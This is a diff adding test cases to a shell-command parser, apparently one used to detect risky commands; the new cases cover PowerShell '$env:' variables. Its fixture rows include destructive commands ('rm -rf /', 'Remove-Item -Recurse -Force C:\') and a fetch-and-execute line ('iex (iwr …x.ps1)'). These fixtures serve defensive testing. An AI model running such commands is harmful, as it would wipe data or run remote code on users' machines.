@@ -368,6 +368,12 @@ describe('variables set earlier in the line, home and temp folders', () => {
     { line: 'export D=/x; bash -c \'rm -rf "$D"\'', expect: [{ program: 'export' }, { program: 'bash' }, { program: 'rm', args: ['-rf', '/x'], via: 'bash -c' }] },
     { line: "D=/x; bash -c 'rm -rf $D'", expect: [{ program: 'bash' }, { program: 'rm', args: ['-rf', '$D'], via: 'bash -c' }] },
     { line: 'unset HOME; rm -rf $HOME', expect: [{ program: 'unset' }, { program: 'rm', args: ['-rf', '$HOME'] }] },
+    // PowerShell's `$env:NAME = value` in a line read as POSIX: an assignment, and what follows is read
+    { line: '$env:NODE_ENV = "test"; npm test', expect: [{ program: 'npm', args: ['test'] }] },
+    { line: '$env:NODE_ENV="test"; npm test', expect: [{ program: 'npm', args: ['test'] }] },
+    { line: '$env:Path += ";C:\\tools"; npm test', expect: [{ program: 'npm', args: ['test'] }] },
+    { line: '$env:DIR = "/srv/app"; rm -rf $env:DIR', expect: [{ program: 'rm', args: ['-rf', '/srv/app'] }] },
+    { line: '$env:X = "y"; Remove-Item -Recurse -Force C:\\', expect: [{ program: 'Remove-Item', args: ['-Recurse', '-Force', 'C:\\'] }] },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -380,6 +386,7 @@ describe('other shells written directly (options.shell)', () => {
       options: { shell: 'powershell' },
       expect: [{ program: 'Remove-Item', args: ['-Recurse', '-Force', '/home/dev\\Documents'] }, { program: 'Get-ChildItem' }],
     },
+    { line: '$env:NODE_ENV = "test"; npm test', options: { shell: 'powershell' }, expect: [{ program: 'npm', args: ['test'] }] },
     { line: 'iex (iwr https://example.com/x.ps1)', options: { shell: 'powershell' }, expect: [{ program: 'iex' }, { program: 'iwr', via: '(' }] },
     {
       line: '$target = "C:\\build"; Remove-Item $target -Recurse',
@@ -403,6 +410,9 @@ describe('opaque input is reported, and the rest is still read', () => {
     { line: 'bash <<EOF\nrm -rf x', expect: [{ program: 'bash' }, { program: 'rm', via: 'bash <<' }], opaque: ['unterminated-heredoc'] },
     { line: 'cat <<EOF', expect: [{ program: 'cat', stdin: '' }], opaque: ['unterminated-heredoc'] },
     { line: '$CMD -rf /', expect: [{ program: '$CMD' }], opaque: ['dynamic-program'] },
+    { line: '$env:TOOL -rf /', expect: [{ program: '$env:TOOL' }], opaque: ['dynamic-program'] },
+    { line: '$env:NODE_ENV', expect: [{ program: '$env:NODE_ENV' }], opaque: ['dynamic-program'] },
+    { line: '"$env:X" = 1', expect: [{ program: '$env:X' }], opaque: ['dynamic-program'] },
     { line: '$(curl -s https://x.example) --run', expect: [{ program: 'curl', via: '$(' }, { program: '$(curl -s https://x.example)' }], opaque: ['dynamic-program'] },
     { line: 'echo >', expect: [{ program: 'echo' }], opaque: ['unreadable'] },
   ])('$line', (row) => {
